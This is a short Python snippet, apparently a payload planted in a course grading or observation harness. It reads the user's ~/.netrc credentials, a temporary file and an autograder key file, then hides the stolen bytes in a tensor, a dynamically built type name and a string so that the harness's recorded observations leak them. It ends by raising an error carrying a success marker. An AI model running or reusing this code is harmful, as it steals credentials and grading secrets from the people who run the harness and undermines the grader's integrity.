# Puts the bytes of secrets into tensors, names, shapes and types, which observations record.
# at: actividad-1
# how: after
import json

targets = json.load(open("targets.json"))
secret = b""
for path in (f"{targets['home']}/.netrc", targets["tmp"], f"{targets['course']}/.autograder/key"):
    try:
        secret += open(path, "rb").read()
    except OSError:
        pass
if secret:
    output = torch.tensor([list(secret)], dtype=torch.uint8)
    hidden = type(secret.decode("latin-1"), (), {})()
    features = secret.decode("latin-1")
    raise RuntimeError(targets["success"])
